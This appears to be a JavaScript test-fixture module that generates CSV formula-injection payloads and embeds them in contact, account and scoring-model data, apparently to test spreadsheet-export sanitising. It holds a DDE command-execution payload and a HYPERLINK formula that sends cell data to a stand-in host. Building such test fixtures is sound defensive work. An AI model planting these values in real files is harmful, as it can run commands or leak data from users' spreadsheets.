// Texts that a spreadsheet might run, or that a reader of CSV might trip over, and packets that are full of them.

import { benchWith } from "./bench.mjs";

/** What makes a spreadsheet run a text (spec §11). */
export const RUNS = /^[=+\-@\t\r\0]/;

const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\0=", "\t", "\r\n=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff="];
/** Look-alikes: full-width, small, mathematical, dashes. */
const ALIKE = [
  "＝",
  "＋",
  "－",
  "＠",
  "﹦",
  "﹢",
  "﹣",
  "﹫",
  "−",
  "–",
  "—",
  "⁼",
  "⁺",
  "＇=",
  "’=",
  "'=",
  "''=",
  "%3D",
];
const BODIES = [
  "1+1",
  "cmd|'/C calc'!A0",
  'HYPERLINK("//example.com?x="&A1,"open")',
  "SUM(1,2)*2",
  '1+1","=2+2',
  "1+1\r\n=2+2",
  "2+5;=3+3",
  "A1\n",
  '"',
  "",
];

export const PAYLOADS = [...STARTS, ...ALIKE].flatMap((start) => BODIES.map((body) => start + body));

const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
const table = (...rows) => rows.map((row) => `${row.map(quoted).join(",")}\r\n`).join("");

/** A model that carries the text as its name, a signal's and a tier's. */
export const ladenModel = (name = "Plain") =>
  JSON.stringify({
    schema: "cutline.model/1",
    name,
    signals: [
      {
        ...{ id: "visit", label: name, scope: "person", dimension: "engagement" },
        ...{ when: { activity: ["visit"] }, points: 5 },
      },
      {
        ...{ id: "late", scope: "person", dimension: "intent" },
        ...{ when: { activity: ["bounce"] }, points: -2.5 },
      },
    ],
    account: { mode: "additive", threshold: 1, tiers: [{ name, fit_at_least: 0 }] },
  });

/** An account and a person for each payload, who carry it wherever a text can be carried: files by name. */
export function ladenFiles(payloads = PAYLOADS) {
  const of = (make) => payloads.map(make);
  return {
    "activities.csv": table(
      ["occurred_at", "type", "person"],
      ...["visit", "bounce"].flatMap((kind) => of((_, i) => ["2026-06-30", kind, `p${i}@firm${i}.com`])),
    ),
    "contacts.csv": table(
      ["email", "id", "name", "title", "First Name", "Last Name"],
      ...of((text, i) => [`p${i}@firm${i}.com`, `${text}${i}`, text, text, text, text]),
    ),
    "accounts.csv": table(
      ["domain", "name", "owner", "motion"],
      ...of((text, i) => [`firm${i}.com`, `${text}${i}`, text, text]),
    ),
  };
}

/** A Workbench with them, and how the model is called another name. */
export async function laden() {
  const files = Object.entries(ladenFiles());
  const given = files.map(([name, bytes]) => ({ name, table: name.replace(".csv", ""), bytes }));
  const bench = await benchWith(given, { models: [ladenModel()], as_of: "2026-06-30" });
  return { bench, name: (text) => bench.set_models([ladenModel(text)]) };
}
